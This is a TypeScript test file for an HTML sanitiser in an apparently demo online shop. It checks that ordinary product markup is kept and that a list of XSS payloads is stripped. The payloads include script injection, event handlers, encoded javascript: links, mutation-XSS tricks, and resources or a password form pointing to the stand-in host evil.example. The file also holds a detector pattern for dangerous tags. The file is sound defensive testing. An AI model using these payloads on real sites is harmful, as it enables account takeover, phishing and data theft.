import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { groups } from '../../seed/data/index.ts'
import { writeTexts } from '../../seed/texts.ts'
import { sanitiseRichText } from './rich-text.rules.ts'

describe('a rich text keeps', () => {
  it.each([
    ['headings and emphasis', '<h3>参数</h3><p>很<strong>轻</strong>，<em>很薄</em></p>'],
    ['lists', '<ul><li>主机 ×1</li></ul><ol start="3"><li>充电器</li></ol>'],
    ['tables', '<table><tbody><tr><th scope="row">品牌</th><td colspan="2">云岚</td></tr></tbody></table>'],
    [
      'pictures of this site',
      '<p><img src="/media/sku/1.webp" alt="正面" width="800" height="800" loading="lazy" /></p>',
    ],
    ['pictures by https', '<img src="https://img.example.com/a.webp" alt="" />'],
    [
      'links',
      '<a href="/item/1">同款</a><a href="https://example.com/">官网</a><a href="tel:4001234567">电话</a>',
    ],
    ['a few styles', '<p style="text-align:center;color:#c00">限量</p>'],
    ['text that looks like a tag', '<p>尺寸 &lt; 10 &amp; 重量 &gt; 2</p>'],
  ])('%s', (_, html) => {
    expect(sanitiseRichText(html)).toBe(html)
  })

  it('everything that the demo shop writes', () => {
    const words = (html: string) => html.replaceAll(' />', '>').replaceAll(/&#39;|&quot;|["']/g, "'")
    for (const category of groups
      .flatMap(({ channels }) => channels)
      .flatMap(({ categories }) => categories)) {
      for (const spu of category.spus) {
        const pictures = ['/media/seed/a.webp', '/media/seed/b.webp', '/media/seed/c.webp']
        for (const html of Object.values(writeTexts(spu, category, pictures))) {
          expect(words(sanitiseRichText(html))).toBe(words(html))
        }
      }
    }
  })
})

const nasty = {
  script: '<p>a</p><script>alert(1)</script>',
  'script in another case': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  'script in halves': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'unclosed script': '<p>a</p><script>alert(1)',
  handler: '<img src="/media/a.webp" onerror="alert(1)"><p onclick=alert(1)>a</p>',
  'handler without quotes or blanks': '<img/src="/media/a.webp"/onerror=alert(1)>',
  'javascript: link': '<a href="javascript:alert(1)">a</a>',
  'javascript: with control characters':
    '<a href="java\tscript:alert(1)">a</a><a href="\u0001javascript:alert(1)">b</a>',
  'javascript: as entities': '<a href="&#106;&#97;vascript&colon;alert(1)">a</a>',
  'vbscript: and data: links':
    '<a href="vbscript:x">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>',
  'data: picture': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'picture over plain http': '<img src="http://evil.example/a.gif">',
  'picture of another site without scheme': '<img src="//evil.example/a.gif">',
  'picture by srcset': '<img src="/media/a.webp" srcset="https://evil.example/a.gif 2x">',
  'picture up the tree': '<img src="/media/../api/account/logout.gif">',
  'another path of this site as picture': '<img src="/api/auth/logout">',
  iframe: '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  'object and embed': '<object data="x.swf"></object><embed src="x.swf">',
  svg: '<svg onload="alert(1)"><animate onbegin="alert(1)"/><a xlink:href="javascript:alert(1)">a</a></svg>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  form: '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">a</button></form>',
  'style sheet':
    '<style>body{background:url(https://evil.example)}</style><link rel=stylesheet href=//evil.example>',
  'style that loads or covers':
    '<div style="background:url(https://evil.example);position:fixed;inset:0;z-index:9;width:expression(alert(1))">a</div>',
  'meta and base':
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  'comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'conditional comment': '<!--[if IE]><script>alert(1)</script><![endif]-->',
  'noscript and template':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>',
  'textarea and title':
    '<textarea><img src=x onerror=alert(1)></textarea><title><script>alert(1)</script></title>',
  'video and audio':
    '<video src=x onerror=alert(1)></video><audio autoplay src="https://evil.example/a.mp3">',
  'id and class': '<p id="app" class="fixed inset-0">a</p>',
  'attribute that breaks out': '<img src="/media/a.webp" alt="&quot;><script>alert(1)</script>">',
}

describe('P7: a rich text loses', () => {
  it.each(Object.entries(nasty))('%s', (_, html) => {
    expectSafe(sanitiseRichText(html))
  })

  it('the way back from a page that a link opens', () => {
    expect(sanitiseRichText('<a href="https://example.com" target="_blank" rel="opener">a</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">a</a>',
    )
    expect(sanitiseRichText('<a href="/item/1" target="top">a</a>')).toBe('<a href="/item/1">a</a>')
  })

  it('all of them, however they are put together, and a second time changes nothing', () => {
    const pieces = fc.array(fc.oneof(fc.constantFrom(...Object.values(nasty)), fc.string()), { maxLength: 5 })
    fc.assert(
      fc.property(pieces, (parts) => {
        const once = sanitiseRichText(parts.join(''))
        expectSafe(once)
        expect(sanitiseRichText(once)).toBe(once)
      }),
    )
  })
})

/** Reads the tags as a browser would: what is left are tags of the list, with attributes that do nothing. */
function expectSafe(html: string): void {
  for (const [tag, name = '', attributes = ''] of html.matchAll(
    /<\/?([a-z][a-z0-9]*)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/gi,
  )) {
    expect(tag).not.toMatch(
      /^<\/?(script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|video|audio|template|noscript|textarea|title)\b/i,
    )
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([\w-]+)(?:="([^"]*)")?/g)) {
      expect(`${name} ${attribute}`).not.toMatch(
        / (on\w+|srcset|srcdoc|formaction|id|class|xlink.*|http-equiv)$/i,
      )
      if (attribute === 'src') expect(value).toMatch(/^(\/media\/|https:)/)
      if (attribute === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:|[^:]*$)/)
      if (attribute === 'style') expect(value).not.toMatch(/url|expression|position|inset/)
    }
  }
  // No tag is left that the expression above does not read.
  expect(html.replaceAll(/<\/?([a-z][a-z0-9]*)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/gi, '')).not.toMatch(/</)
}
